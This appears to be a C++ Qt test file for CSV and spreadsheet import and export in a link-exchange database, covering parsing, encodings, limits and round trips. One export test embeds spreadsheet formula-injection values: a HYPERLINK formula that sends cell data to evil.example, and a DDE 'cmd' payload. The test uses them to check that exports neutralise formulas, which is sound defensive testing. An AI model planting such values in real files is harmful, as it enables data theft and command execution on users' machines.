#include "TestData.h"
#include "model/CollectionManager.h"
#include "model/DatabaseFile.h"
#include "model/MacRomanCodec.h"
#include "model/TextUtils.h"
#include "publish/CsvSpreadsheetBuilder.h"
#include "publish/SpreadsheetBuilder.h"
#include "support/DatabaseBuilder.h"
#include "workflow/KnownAddresses.h"
#include "workflow/TableColumns.h"
#include "workflow/TableImporter.h"
#include "workflow/TableReader.h"

#include <QTemporaryDir>
#include <QtTest>

namespace {

const QDate Today(2024, 6, 1);

Table readOrFail(const QByteArray &data, const TableReader::Options &options = {})
{
    return TableReader::read(data, options).value_or(Table{});
}

std::unique_ptr<TableImporter> import(CollectionManager &store, const QByteArray &csv, bool update = false)
{
    const Table read = readOrFail(csv);
    auto importer = std::make_unique<TableImporter>(store, read, TableColumns::mappingOfHeaders(read.headers),
                                                    update, Today);
    importer->apply(store);
    return importer;
}

const Link *linkWithURL(const CollectionManager &store, const QString &url)
{
    for (TreeNode *node : store.allLinkNodes()) {
        if (node->link()->URL() == url)
            return node->link();
    }
    return nullptr;
}

QStringList reportTexts(const TableImporter &importer)
{
    QStringList texts;
    for (const TableReport &report : importer.reports())
        texts.append(TableImporter::reportText(report));
    return texts;
}

// Every exported field of every link, in tree order.
QList<QStringList> exportedFields(const CollectionManager &store)
{
    QList<QStringList> links;
    for (const TreeNode *categoryNode : store.categoryRoot()->children()) {
        for (const TreeNode *node : categoryNode->children()) {
            const Link *l = node->link();
            links.append({categoryNode->category()->name(), l->title(), l->description(), l->URL(),
                          l->counterpartURL(), l->counterpartCategoryName(), l->contactFirstName(),
                          l->contactLastName(), l->contactEmail(), QString(QChar(l->type())),
                          QString(QChar(l->status())), l->lastStatusChangedOn().toString(Qt::ISODate),
                          l->lastVerifiedOn().toString(Qt::ISODate), l->notes()});
        }
    }
    return links;
}

QList<QStringList> rowsOf(const Table &table)
{
    QList<QStringList> rows;
    for (const TableRow &row : table.rows)
        rows.append(QStringList{QString::number(row.number)} + table.cells(row));
    return rows;
}

} // namespace

class TestTableImport : public QObject
{
    Q_OBJECT

private slots:
    void rowsBecomeLinksOrAreReportedByNumber()
    {
        DatabaseBuilder db;
        db.link(QStringLiteral("Known"), LinkStatusApproved, QStringLiteral("http://Known.example/"));
        db.category(QStringLiteral("Books"), QStringLiteral("books"));
        CollectionManager &store = db.store();
        const auto importer =
            import(store, "Name,Website,Category,Status,Request,Last Verified On,E-mail\n"
                          ",www.alpha.example/shop,books,approved,A,2024-02-03,a@x\n"
                          "Bravo,https://bravo.example,General,4,,03/05/2004,\n"
                          "Charlie,charlie.example,Caf\xc3\xa9 Cr\xc3\xa8me,Pending,Maybe,31/31/2020,\n"
                          "X,not a url at all\n"
                          "\n"
                          "No address\n"
                          "Same,http://known.EXAMPLE\n" +
                              QByteArray(120, 'T') +
                              ",http://new.example/\n"
                              "Again,HTTP://NEW.example\n"
                              "F,ftp://files.example\n");
        const TableImporter::Counts &counts = importer->counts();
        QCOMPARE((QList<int>{counts.added, counts.skipped, counts.categoriesAdded}), (QList<int>{4, 5, 1}));
        QCOMPARE(
            reportTexts(*importer),
            (QStringList{"row 4: original request \"Maybe\" is not known; Received was used",
                         "row 4: status \"Pending\" is not known; New was used",
                         "row 4: \"31/31/2020\" is not a date (MM/DD/YYYY or YYYY-MM-DD); Last Verified On "
                         "was left out",
                         "row 5: \"not a url at all\" is not a web address", "row 7: has no address",
                         "row 8: \"http://known.EXAMPLE\" is already in the database",
                         "row 9: Title was cut to 99 characters",
                         "row 10: \"HTTP://NEW.example\" is already in row 9",
                         "row 11: \"ftp://files.example\" is not a web address"}));
        QCOMPARE(linkWithURL(store, QStringLiteral("http://new.example/"))->title(), QString(99, u'T'));

        // Completed address, title from the host, category matched ignoring case, status and request codes.
        const Link *alpha = linkWithURL(store, QStringLiteral("http://www.alpha.example/shop"));
        QCOMPARE(alpha->title(), QStringLiteral("www.alpha.example"));
        QCOMPARE(store.categoryNodeWithID(alpha->categoryID())->category()->name(), QStringLiteral("Books"));
        QCOMPARE(alpha->status(), LinkStatusApproved);
        QCOMPARE(alpha->type(), LinkTypeSent);
        QCOMPARE(alpha->lastVerifiedOn(), QDate(2024, 2, 3));
        QCOMPARE(alpha->lastVerificationResult(), VerificationMarkedVerified);
        QCOMPARE(alpha->lastStatusChangedOn(), Today);

        const Link *bravo = linkWithURL(store, QStringLiteral("https://bravo.example"));
        QCOMPARE(bravo->categoryID(), NoneCategoryID);
        QCOMPARE(bravo->status(), LinkStatusBlocked);
        QCOMPARE(bravo->type(), LinkTypeReceived);
        QCOMPARE(bravo->lastVerifiedOn(), QDate(2004, 3, 5));

        // A new category gets the ID the category sheet would propose; unknown words fall back.
        const Link *charlie = linkWithURL(store, QStringLiteral("http://charlie.example"));
        const Category *cafe = store.categoryNodeWithID(charlie->categoryID())->category();
        QCOMPARE(cafe->name(), QStringLiteral("Caf\u00e9 Cr\u00e8me"));
        QCOMPARE(cafe->anchor(), QStringLiteral("cafecreme"));
        QCOMPARE(charlie->status(), LinkStatusNew);
        QVERIFY(!charlie->lastVerifiedOn().isValid());
    }

    void updateRefreshesTheKnownLink()
    {
        DatabaseBuilder db;
        LinkFields known;
        known.title = QStringLiteral("Known");
        known.URL = QStringLiteral("http://known.example/");
        known.description = QStringLiteral("kept");
        known.status = LinkStatusNew;
        known.lastStatusChangedOn = QDate(2020, 1, 1);
        db.link(known);
        CollectionManager &store = db.store();
        const QString id = store.allLinkNodes().front()->attachmentID();

        const auto importer = import(store,
                                     "URL,Title,Description,Status\n"
                                     "http://KNOWN.example,Renamed,,Approved\n"
                                     "http://KNOWN.example,Renamed,,approved\n"
                                     "http://fresh.example,Fresh,first,\n"
                                     "http://fresh.example/,,second,Negotiating\n",
                                     true);
        const TableImporter::Counts &counts = importer->counts();
        QCOMPARE((QList<int>{counts.added, counts.updated, counts.unchanged}), (QList<int>{1, 2, 1}));
        QCOMPARE(store.numberOfLinks(), 2);
        const Link *updated = store.linkWithID(id);
        QCOMPARE(updated->title(), QStringLiteral("Renamed"));
        QCOMPARE(updated->URL(), QStringLiteral("http://KNOWN.example"));
        QCOMPARE(updated->description(), QStringLiteral("kept")); // an empty cell changes nothing
        QCOMPARE(updated->status(), LinkStatusApproved);
        QCOMPARE(updated->lastStatusChangedOn(), Today); // a new status without a date is dated today
        // A later row of the table refreshes the link an earlier row added.
        const Link *fresh = linkWithURL(store, QStringLiteral("http://fresh.example/"));
        QCOMPARE(fresh->title(), QStringLiteral("Fresh"));
        QCOMPARE(fresh->description(), QStringLiteral("second"));
        QCOMPARE(fresh->status(), LinkStatusNegotiating);
    }

    void sameAddressKeyAgreesWithTheStore()
    {
        const QStringList urls = {
            "http://a.example",           "http://A.EXAMPLE/",      "http://a.example//",
            "http://stra\u00dfe.example", "http://STRASSE.example", "http://\u03c3.example",
            "http://\u03a3.example/",     "http://\u0130.example",  "http://i.example"};
        for (const QString &stored : urls) {
            DatabaseBuilder db;
            db.link(QStringLiteral("x"), LinkStatusNew, stored);
            const KnownAddresses known(db.store());
            for (const QString &asked : urls)
                QCOMPARE(known.linkNodeWithURL(asked) != nullptr, db.store().linkWithURLAlreadyExists(asked));
        }
    }

    // The exports, the sample's links and cells a spreadsheet would run as formulas among them, read
    // back to the same links: no cell of the file starts a formula, and the guards come off again.
    void exportReadsBackInEveryEncoding()
    {
        DatabaseBuilder db;
        CollectionManager &sample = db.store();
        QVERIFY(DatabaseFile::read(QStringLiteral(QM_SOURCE_DIR "/examples/sample.site"), sample));
        LinkFields formulas;
        formulas.title = QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1)");
        formulas.URL = QStringLiteral("http://formula.example/");
        formulas.description = QStringLiteral("-5 % off");
        formulas.counterpartCategoryName = QStringLiteral("'Friends'");
        formulas.contactFirstName = QStringLiteral("@home");
        formulas.contactLastName = QStringLiteral("'=already quoted");
        formulas.contactEmail = QStringLiteral("+1@formula.example");
        formulas.notes = QStringLiteral("\tindented\r\n=SUM(1)");
        formulas.lastStatusChangedOn = QDate(2026, 11, 30);
        formulas.lastVerifiedOn = QDate(2026, 12, 7);
        formulas.lastVerificationResult = VerificationLinkNotFound;
        db.category(QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("cmd")).link(formulas);
        for (const int encoding :
             {int(TextEncoding::UTF16), int(TextEncoding::UTF8), int(TextEncoding::ISOLatin1),
              int(TextEncoding::MacOSRoman), -1}) { // -1: CSV
            // Notes with a line break survive only where cells may be quoted.
            const QByteArray data = encoding < 0 ? CsvSpreadsheetBuilder(sample).data()
                                                 : SpreadsheetBuilder(sample).data(TextEncoding(encoding));
            TableReader::Options options;
            if (encoding == int(TextEncoding::MacOSRoman))
                options.encoding = TextEncoding::MacOSRoman; // never guessed: the user picks it
            const std::optional<Table> read = TableReader::read(data, options);
            QVERIFY(read);
            for (const TableRow &row : read->rows) {
                for (const QString &cell : read->cells(row))
                    QVERIFY2(!QString("=+-@\t\r").contains(cell.left(1)) || cell.isEmpty(), qPrintable(cell));
            }

            CollectionManager empty;
            TableImporter importer(empty, *read, TableColumns::mappingOfHeaders(read->headers), false, Today);
            QVERIFY(importer.reports().isEmpty());
            importer.apply(empty);
            QList<QStringList> expected = exportedFields(sample);
            if (encoding >= 0) {
                for (QStringList &link : expected)
                    link.last() = TextUtils::stringByRemovingTabDelimiters(link.last());
            }
            // The table holds no verification outcome; everything else comes back.
            QCOMPARE(exportedFields(empty), expected);
        }
    }

    void delimiterComesFromTheHeaderLine()
    {
        const std::pair<QByteArray, char> cases[] = {
            {"Title\tURL\nA, b\thttp://a.example\n", '\t'},
            {"Title,URL,Notes\nA;b,http://a.example,x\n", ','},
            {"Name;Website;Comment, more\nA;http://a.example;x\n", ';'},
            {"Remarks; more\tURL,Notes\n", ','}, // only the comma splits off a known name ("Notes")
            {"URL\tTitle,Notes\n", '\t'},        // a tie goes to the tab
            {"a;b;c,d\n1;2;3,4\n", ';'},         // no known name: the most columns
            {"\"Title, long\",URL\n", ','}};
        for (const auto &[data, delimiter] : cases)
            QCOMPARE(readOrFail(data).delimiter, QChar(delimiter));
    }

    void quotedFieldsAndLineEnds()
    {
        Table table = readOrFail("Title,URL,Notes\r\n"
                                 "\"A, B\",http://a.example,\"say \"\"hi\"\"\"\r\n"
                                 "C,http://c.example,\"two\r\nlines\"\r"
                                 "\r\n"
                                 ",,\n"
                                 "D,http://d.example,\n"
                                 "E,http://e.example");
        QCOMPARE(table.headers, (QStringList{"Title", "URL", "Notes"}));
        // Numbered as a spreadsheet shows them: blank rows count, a line break inside a cell does not.
        QCOMPARE(rowsOf(table), (QList<QStringList>{{"2", "A, B", "http://a.example", "say \"hi\""},
                                                    {"3", "C", "http://c.example", "two\r\nlines"},
                                                    {"6", "D", "http://d.example", ""},
                                                    {"7", "E", "http://e.example"}}));
        // The tab-delimited export writes quotes as they stand: unbalanced ones are read as written.
        table = readOrFail("Link\tURL\n\"Best\" links\thttp://a.example\n\"open\thttp://b.example\n");
        QCOMPARE(rowsOf(table), (QList<QStringList>{{"2", "\"Best\" links", "http://a.example"},
                                                    {"3", "\"open", "http://b.example"}}));
    }

    void encodings()
    {
        const QString text = QStringLiteral("Title\tURL\nCaf\u00e9 \u20ac\thttp://a.example\n");
        auto title = [](const Table &table) { return table.cells(table.rows.value(0)).value(0); };

        // UTF-16 marked in either byte order, UTF-8 marked or not; a mark is not part of the first header.
        QStringEncoder utf16le(QStringConverter::Utf16LE, QStringConverter::Flag::WriteBom);
        QStringEncoder utf16be(QStringConverter::Utf16BE, QStringConverter::Flag::WriteBom);
        const std::pair<QByteArray, TextEncoding> unicode[] = {
            {utf16le.encode(text), TextEncoding::UTF16},
            {utf16be.encode(text), TextEncoding::UTF16},
            {"\xEF\xBB\xBF" + text.toUtf8(), TextEncoding::UTF8},
            {text.toUtf8(), TextEncoding::UTF8}};
        for (const auto &[data, encoding] : unicode) {
            const Table table = readOrFail(data);
            QCOMPARE(table.encoding, encoding);
            QCOMPARE(table.headers.value(0), QStringLiteral("Title"));
            QCOMPARE(title(table), QStringLiteral("Caf\u00e9 \u20ac"));
        }

        // Not valid UTF-8: Latin-1, unless the user picks Mac OS Roman.
        const QByteArray roman = MacRomanCodec::encode(text);
        const Table table = readOrFail(roman);
        QCOMPARE(table.encoding, TextEncoding::ISOLatin1);
        QCOMPARE(title(table), QString::fromLatin1(roman.mid(10, 6)));
        QCOMPARE(title(readOrFail(roman, {TextEncoding::MacOSRoman, std::nullopt})),
                 QStringLiteral("Caf\u00e9 \u20ac"));
    }

    void refusals()
    {
        FileError error;
        QVERIFY(!TableReader::read(QByteArray("0102\0\0\0\x01", 8), {}, &error));
        QVERIFY(error.text().contains(QLatin1String("not a text table")));
        QVERIFY(!TableReader::read(QByteArray("\n\r\n\r"), {}, &error));
        QVERIFY(error.text().contains(QLatin1String("no header")));

        // More rows than a database holds links, or more cells in a row than any table of partners
        // has, is refused before it fills the memory; the message names the cap.
        const QByteArray rows = QByteArray("URL\n") + QByteArray("a\n").repeated(TableReader::MaximumRows);
        QCOMPARE(readOrFail(rows).rows.size(), TableReader::MaximumRows);
        QVERIFY(!TableReader::read(rows + "a\n", {}, &error));
        QVERIFY2(error.text().contains(QString::number(TableReader::MaximumRows) + " rows"),
                 qPrintable(error.text()));
        const QByteArray cells = QByteArray("URL") + QByteArray(",x").repeated(TableReader::MaximumCells - 1);
        QCOMPARE(readOrFail(cells + "\n").headers.size(), TableReader::MaximumCells);
        QVERIFY(!TableReader::read("URL,Title\n" + cells + ",x\n", {}, &error)); // comma-delimited
        QVERIFY2(error.text().contains(QString::number(TableReader::MaximumCells) + " cells in row 2"),
                 qPrintable(error.text()));

        // A file past the cap is refused before anything is read (a sparse file takes no room).
        QTemporaryDir dir;
        QFile big(dir.filePath(QStringLiteral("big.csv")));
        QVERIFY(big.open(QIODevice::WriteOnly));
        QVERIFY(big.resize(TableReader::MaximumSize + 1));
        big.close();
        QVERIFY(!TableReader::readFile(big.fileName(), {}, &error));
        QVERIFY(error.text().contains(QLatin1String("too large")));
        QVERIFY(!TableReader::readFile(dir.filePath(QStringLiteral("none.csv")), {}, &error));
        QVERIFY(error.text().contains(QLatin1String("cannot open")));
    }

    void otherToolsColumnNames()
    {
        // Whatever their case, spaces, dashes and underscores; the export's own names come back in the
        // round trip below.
        const QStringList other = {"site_url",       "BACKLINK-URL", "e-mail",   " first name ", "LastName",
                                   "Reciprocal URL", "request",      "keywords", "Colour"};
        QCOMPARE(TableColumns::mappingOfHeaders(other),
                 (QList<TableField>{TableField::URL, TableField::LinksPageURL, TableField::Email,
                                    TableField::FirstName, TableField::LastName, TableField::Ignored,
                                    TableField::OriginalRequest, TableField::Keywords, TableField::Ignored}));
        // A field named twice is taken from its first column.
        QCOMPARE(TableColumns::mappingOfHeaders({"Title", "Name", "Website"}),
                 (QList<TableField>{TableField::Title, TableField::Ignored, TableField::URL}));
    }
};

QTEST_GUILESS_MAIN(TestTableImport)
#include "tst_tableimport.moc"
